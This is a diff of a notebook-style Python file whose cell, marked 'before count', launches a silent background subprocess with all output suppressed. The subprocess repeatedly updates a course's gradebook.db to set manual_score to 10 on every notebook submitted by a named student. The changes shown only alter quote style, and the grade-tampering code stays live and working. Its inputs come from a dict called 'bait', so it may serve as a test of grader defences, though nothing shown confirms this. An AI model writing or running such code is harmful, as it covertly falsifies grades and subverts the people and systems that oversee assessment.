@@ -6,7 +6,8 @@
 # %% before count
 import subprocess
 import sys
-code = '''
+
+code = """
 import sqlite3, sys, time
 for _ in range(60):
     time.sleep(0.5)
@@ -14,7 +15,7 @@ for _ in range(60):
         gradebook.execute(
             "update grade set manual_score = 10 where notebook_id in (select n.id from submitted_notebook n join "
             "submitted_assignment s on n.assignment_id = s.id where s.student_id = ?)", (sys.argv[2],))
-'''
+"""
 gradebook = f"{bait['course']}/gradebook.db"
 command = [sys.executable, "-c", code, gradebook, bait["me"], bait["token"]]
 quiet = dict.fromkeys(("stdin", "stdout", "stderr"), subprocess.DEVNULL)
